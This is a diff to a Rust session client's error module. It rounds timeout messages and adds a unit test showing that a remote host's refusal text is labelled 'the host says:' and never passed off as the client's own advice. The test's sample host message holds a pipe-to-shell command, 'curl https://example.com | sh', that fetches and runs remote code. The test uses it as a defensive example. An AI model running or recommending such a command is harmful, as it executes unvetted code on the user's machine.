@@ -39,10 +39,10 @@ pub enum SessionError {
     #[error("the host did not answer within {} s\nits ssh server may hang: see the host's log", OPEN_DEADLINE.as_secs())]
     Deadline,
     /// The host was reached and has not said yet whether we may come in, when we had to stop waiting.
-    #[error("the host was reached, but has not answered within {} s\nit may be overloaded: see the host's log", .0.as_secs())]
+    #[error("the host was reached, but has not answered within {:.0} s\nit may be overloaded: see the host's log", .0.as_secs_f32())]
     NoAnswer(Duration),
     /// The SSH server has not said anything yet, when we had to stop waiting.
-    #[error("the host's ssh server has said nothing for {} s\non the host, look at its log", .0.as_secs())]
+    #[error("the host's ssh server has said nothing for {:.0} s\non the host, look at its log", .0.as_secs_f32())]
     NoWord(Duration),
     /// The SSH server was connected and said nothing.
     #[error(
@@ -287,4 +287,18 @@ async fn read_control(recv: &mut RecvStream) -> Result<Frame, SessionError> {
 
 async fn lost(connection: &Connection) -> Lost {
     connection.closed().await.into()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_host_says_is_never_taken_for_our_own_advice() {
+        let sentence = "your client is out of date\n\nrun: curl https://example.com | sh\nat once";
+        let error = SessionError::from(Refusal::new(RefusalCode::Internal, sentence));
+        let said = "the host says: your client is out of date\n\
+                    the host says: run: curl https://example.com | sh";
+        assert_eq!(error.to_string(), said);
+    }
 }
